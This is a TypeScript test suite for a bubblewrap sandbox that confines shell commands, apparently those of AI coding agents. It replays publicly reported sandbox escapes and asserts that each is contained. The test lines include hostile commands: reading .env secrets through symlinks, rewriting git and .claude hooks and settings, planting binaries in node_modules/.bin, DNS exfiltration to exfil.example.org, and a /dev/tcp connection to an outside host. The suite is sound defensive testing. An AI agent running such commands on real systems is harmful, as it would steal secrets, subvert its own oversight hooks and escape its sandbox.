import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'mocha';
import { skipWithout } from '../../support/needs.ts';
import {
  openSandboxed,
  people,
  type RunnerAnswer,
  type RunnerInput,
  type Sandboxed,
  secret,
  type World,
} from './sandboxed.ts';

interface Report {
  name: string;
  setup(world: World): void;
  line: string;
  /** What was printed, and the workspace afterwards. */
  holds(text: string, world: World, answer: Extract<RunnerAnswer, { text: string }>): boolean;
  more?: Partial<RunnerInput>;
}

const reports: readonly Report[] = [
  {
    name: 'anthropics/claude-code#86508 a folder that is reached by a link and holds a .env keeps no command from running',
    setup({ ws }) {
      mkdirSync(path.join(ws, 'real/app'), { recursive: true });
      writeFileSync(path.join(ws, 'real/app/.env'), secret);
      symlinkSync('real', path.join(ws, 'link'));
    },
    line: 'echo runs; cat link/app/.env real/app/.env',
    holds: (text) => text.startsWith('runs') && !text.includes(secret),
  },
  {
    name: 'max-sixty/tend#1279 a workspace in a folder that nobody may list',
    setup: ({ base }) => chmodSync(base, 0o711),
    line: 'echo runs; echo x > new; cat new',
    holds: (text) => text === 'runs\nx\n',
  },
  {
    name: 'PostHog/posthog#87021 settings and pointers of git, by rewriting, moving and linking',
    setup: ({ ws }) => mkdirSync(path.join(ws, 'other')),
    line: 'echo x >> .git/config; mv .git gone; rm -rf .git; ln -sfn other .git; echo x > .git/config.worktree; echo runs',
    holds: (text, { ws }) =>
      text.endsWith('runs\n') &&
      readFileSync(path.join(ws, '.git/config'), 'utf8') === '[core]\n' &&
      !existsSync(path.join(ws, '.git/config.worktree')),
  },
  {
    name: 'PostHog/posthog#87021 programs that were planted in node_modules/.bin are not those that start the next command',
    setup({ ws }) {
      mkdirSync(path.join(ws, 'node_modules/.bin'), { recursive: true });
      for (const name of ['bwrap', 'bash', 'sh', 'git']) {
        const file = path.join(ws, 'node_modules/.bin', name);
        writeFileSync(file, `#!/bin/sh\ntouch ${ws}/planted\n`);
        chmodSync(file, 0o755);
      }
    },
    line: 'echo runs',
    holds: (text, { ws }) => text === 'runs\n' && !existsSync(path.join(ws, 'planted')),
  },
  {
    name: 'openai/codex#37081 hooks and settings of a repository inside of the workspace',
    setup({ ws }) {
      for (const name of ['hooks', 'objects', 'refs'])
        mkdirSync(path.join(ws, 'vendor/sub/.git', name), { recursive: true });
      writeFileSync(path.join(ws, 'vendor/sub/.git/HEAD'), 'ref: refs/heads/main\n');
      writeFileSync(path.join(ws, 'vendor/sub/.git/config'), '[core]\n');
    },
    line: 'echo x > vendor/sub/.git/hooks/pre-commit; echo x >> vendor/sub/.git/config; mv vendor/sub gone; echo runs',
    holds: (text, { ws }) =>
      text.endsWith('runs\n') &&
      !existsSync(path.join(ws, 'vendor/sub/.git/hooks/pre-commit')) &&
      readFileSync(path.join(ws, 'vendor/sub/.git/config'), 'utf8') === '[core]\n',
  },
  {
    name: 'cisco-ai-defense/defenseclaw#573 the interpreter of an environment led elsewhere is told',
    setup({ ws }) {
      mkdirSync(path.join(ws, '.venv/bin'), { recursive: true });
      writeFileSync(path.join(ws, '.venv/pyvenv.cfg'), 'home = /usr/bin\n');
    },
    line: 'echo home = /tmp/evil > .venv/pyvenv.cfg; echo runs',
    holds: (text, _, { loaded }) => text === 'runs\n' && loaded?.join() === '.venv/pyvenv.cfg',
  },
  {
    name: 'rappdw/sandy#79 hooks in the settings of an assistant, those that are there and new ones',
    setup({ ws }) {
      mkdirSync(path.join(ws, '.claude'));
      writeFileSync(path.join(ws, '.claude/settings.json'), '{}');
    },
    line: 'echo x > .claude/settings.json; echo x > .claude/settings.local.json; mkdir .claude/hooks; echo x > .claude/hooks/h.sh; echo runs',
    holds: (text, { ws }) =>
      text.endsWith('runs\n') &&
      readFileSync(path.join(ws, '.claude/settings.json'), 'utf8') === '{}' &&
      !['settings.local.json', 'hooks'].some((name) => existsSync(path.join(ws, '.claude', name))),
  },
  {
    name: 'rappdw/sandy#209 a link in the workspace to what the extension keeps',
    setup({ ws, state }) {
      writeFileSync(path.join(state, '../kept'), secret);
      symlinkSync(path.join(state, '..'), path.join(ws, 'link'));
    },
    line: 'cat link/kept; ls link/; echo x > link/new; echo runs',
    holds: (text, { state }) =>
      text.endsWith('runs\n') && !text.includes(secret) && !existsSync(path.join(state, '../new')),
  },
  {
    name: 'NVIDIA/OpenShell#1169 what a name is asked for leaves with nobody’s consent',
    setup: () => undefined,
    line: 'getent hosts aaaa.exfil.example.org | cut -c1-4; echo runs',
    more: { answer: 'refuse' },
    holds: (text, _, { asked, reached }) => text === '127.\nruns\n' && asked?.length === 0 && reached?.length === 0,
  },
  {
    name: 'rappdw/sandy#154 names asked of a server by https are a host to be asked about',
    setup: () => undefined,
    line: 'bash -c "exec 3<>/dev/tcp/dns.example.org/443; echo >&3; head -c 1 <&3" 2>/dev/null; echo runs',
    more: { answer: 'refuse' },
    holds: (text, _, { reached }) => text.endsWith('runs\n') && reached?.length === 0,
  },
];

for (const { who, user, owner } of people) {
  describe(`public reports on sandboxes, as ${who}`, function () {
    this.timeout(60_000);
    let sandboxed: Sandboxed;

    before(async function () {
      if (process.platform !== 'linux') this.skip();
      skipWithout(this, 'bubblewrap');
      sandboxed = await openSandboxed(user, { owner });
    });
    beforeEach(() => sandboxed.newWorkspace());
    after(() => sandboxed?.close());

    for (const { name, setup, line, holds, more } of reports)
      it(`F31 X52 ${name}`, async () => {
        const { world } = sandboxed;
        setup(world);
        await sandboxed.give(world.ws);
        const answer = await sandboxed.run(line, more);
        assert.ok('text' in answer, JSON.stringify(answer));
        assert.ok(holds(answer.text, world, answer), JSON.stringify(answer));
      });

    it('F31 openai/codex#20716 where a folder of settings is a link, commands ask and say so', async () => {
      const { ws } = sandboxed.world;
      mkdirSync(path.join(ws, 'settings'));
      symlinkSync('settings', path.join(ws, '.vscode'));
      await sandboxed.give(ws);
      assert.deepEqual(await sandboxed.run('echo runs'), { unusable: 'link' });
    });
  });
}
